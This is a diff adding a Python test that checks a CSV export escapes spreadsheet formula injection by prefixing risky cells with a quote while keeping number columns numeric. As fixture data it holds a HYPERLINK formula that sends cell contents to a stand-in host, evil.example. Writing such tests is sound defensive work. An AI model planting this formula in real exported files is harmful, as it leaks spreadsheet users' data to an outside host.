@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import json
 import re
 
@@ -665,3 +666,15 @@ def test_warm_up_runs_every_page_query_and_each_drill_down_once(market_db):
              "app_official_workload", "app_activity_range", "app_departments", "app_top_findings"}
     assert drill_downs | pages <= set(ran), sorted((drill_downs | pages) - set(ran))
     assert count == 33  # every call succeeded: 12 pages, 5 lists, and 16 drill-downs of the ids they gave
+
+
+def test_console_csv_writes_a_formula_in_a_name_as_text_and_keeps_numbers():
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    table = pd.DataFrame({"name": [hostile, "Alpha Build", None], "phone": ["+86 10 1234", "13800000001", "x"],
+                          "balance": [-5, 3, 7], "=cmd": [1.5, -2.0, None]})
+    read = pd.read_csv(io.BytesIO(app_queries.console_csv(table)), keep_default_na=False)
+    assert list(read.columns) == ["name", "phone", "balance", "'=cmd"]
+    assert list(read["name"]) == ["'" + hostile, "Alpha Build", ""]
+    assert list(read["phone"]) == ["'+86 10 1234", "13800000001", "x"]
+    assert list(read["balance"]) == [-5, 3, 7]  # a number column is left as numbers
+    assert list(read["'=cmd"]) == ["1.5", "-2.0", ""]  # as written: no quote before the minus
